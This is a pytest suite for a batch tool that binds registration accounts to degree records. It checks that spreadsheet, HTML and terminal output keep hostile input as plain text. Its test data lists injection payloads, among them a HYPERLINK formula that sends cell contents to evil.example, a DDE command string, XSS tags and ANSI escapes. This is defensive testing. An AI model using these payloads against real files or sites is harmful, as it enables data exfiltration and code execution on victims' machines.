"""Text from the input stays text in every output: no formula, no link, no markup, no control sequence."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from lxml import etree, html

from chsi_batch.terms import Side

from .calling import Said, call, table
from .drawn import account, accounts, degree, degrees, headed, write_xlsx

NAUGHTY = (
    '=HYPERLINK("http://evil.example/?"&A1,"张")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "＝1+1",
    "\t=1+1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "{{ 7*7 }}{% raw %}",
    "[red]张[/red]",
    "http://evil.example/",
    "mailto:x@evil.example",
    "\x1b[31m张\x1b[0m",
    "張\u202e三",
    "&lt;b&gt;张",
    "]]><b>张</b>",
    "_x0041_张",
    "'=1+1",
)
READ_OTHERWISE = ("_x0041_张", "'=1+1")
"""In a workbook the first is an escaped letter; in a text file the apostrophe of the second is a mark."""
HEADER = "=1+1<script>alert(2)</script>"


@pytest.fixture(scope="module", params=["xlsx", "csv"])
def made(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Said, Path]:
    """A run over people whose every free field is naughty; half of them bind."""
    folder = tmp_path_factory.mktemp("hostile")
    texts = [text for text in NAUGHTY if request.param == "csv" or "\x1b" not in text]
    people = [
        account(n % 10, username=f"user{n}", name=text, source_system=text, id_number=_number(n), email=text)
        for n, text in enumerate(texts)
    ]
    held = [
        degree(
            n % 10, name=text if n % 2 else f"{text}乙", id_number=_number(n), school=text, major=text,
            remark=text, department=text, certificate_number=f"10001120150600{n:04d}", conclusion="毕业",
        )
        for n, text in enumerate(texts)
    ]  # fmt: skip
    folder_in = folder / "=1+1 <b>in"
    folder_in.mkdir()
    registrations = accounts(folder_in / f"=账号<b>.{request.param}", people, {"source_system": HEADER})
    if request.param == "xlsx":
        records = write_xlsx(
            folder_in / "[red]学历.xlsx", headed(Side.DEGREE, held, {"remark": HEADER}), "=1+1<b>"
        )
    else:
        records = degrees(folder_in / "[red]学历.csv", held, {"remark": HEADER})
    out = folder / "result"
    said = call("run", "--registrations", registrations, "--degrees", records, "--out", out)
    call("check", "--registrations", registrations, "--degrees", records, "--out", folder / "checked")
    return out, said, folder / "checked"


def _number(place: int) -> str:
    from .drawn import WEIGHTS

    body = f"1101011985{place % 12 + 1:02d}10{place:03d}"
    return body + "10X98765432"[sum(int(d) * w for d, w in zip(body, WEIGHTS, strict=True)) % 11]


def test_the_run_ends_well(made: tuple[Path, Said, Path]) -> None:
    out, said, checked = made
    assert said.code == 0
    assert table(out, "bindings")
    assert {row["outcome"] for row in table(out, "ledger")} == {"bound", "exception"}
    assert (checked / "check_report.xlsx").is_file()


@pytest.mark.parametrize("name", ["binding_report.xlsx", "exception_report.xlsx", "check_report.xlsx"])
def test_no_formula_and_no_link_leaves_a_workbook(made: tuple[Path, Said, Path], name: str) -> None:
    out, _, checked = made
    path = checked / name if name.startswith("check") else out / name
    with zipfile.ZipFile(path) as archive:
        for member in archive.namelist():
            content = archive.read(member)
            assert b"<f>" not in content or member.startswith("xl/worksheets"), member
            if member.endswith(".rels"):
                assert b'TargetMode="External"' not in content
                assert b"evil.example" not in content
    for page in openpyxl.load_workbook(path):
        for row in page.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.coordinate
                assert cell.hyperlink is None or cell.hyperlink.target is None


@pytest.mark.parametrize("name", ["binding_report.xlsx", "exception_report.xlsx"])
def test_cells_that_look_like_formulas_are_marked_as_text(made: tuple[Path, Said, Path], name: str) -> None:
    out, _, _ = made
    seen = [
        cell
        for page in openpyxl.load_workbook(out / name)
        for row in page.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-2", "@", "＝"))
    ]
    assert seen
    for cell in seen:
        assert cell.data_type == "s"


def test_the_page_holds_no_markup_from_input(made: tuple[Path, Said, Path]) -> None:
    page = html.fromstring((made[0] / "summary.html").read_bytes())
    for element in page.iter(etree.Element):
        assert element.tag not in ("script", "iframe", "object", "embed", "form", "base")
        for attribute, value in element.attrib.items():
            assert not attribute.lower().startswith("on")
            assert "evil.example" not in value
            if attribute in ("href", "src", "{http://www.w3.org/1999/xlink}href"):
                assert value.startswith(("#", "data:"))
    text = page.text_content()
    assert "=账号<b>" in text
    assert "49" not in re.findall(r"\b49\b", text.replace("7*7", ""))


def test_the_terminal_gets_no_control_sequence(made: tuple[Path, Said, Path]) -> None:
    said = made[1]
    assert "\x1b" not in said.err
    assert "\u202e" not in said.err
    assert "[red]学历" in said.err.replace("\n", "")


def test_names_come_through_unchanged(made: tuple[Path, Said, Path]) -> None:
    names = {row["name"] for row in table(made[0], "registrations", private=True)}
    for text in NAUGHTY:
        if "\x1b" not in text and text not in READ_OTHERWISE:
            assert text.strip() in names


def test_a_refusal_shows_hostile_names_as_text(tmp_path: Path) -> None:
    path = tmp_path / "a\x1b[31m\nb.csv"
    accounts(path, [account(0)], {"id_number": "\x1b[31m身份\n证号码X"})
    said = call("run", "--registrations", path, "--degrees", path, "--out", tmp_path / "result")
    assert said.code == 3
    assert "\x1b" not in said.err
    assert len(said.lines) == 2
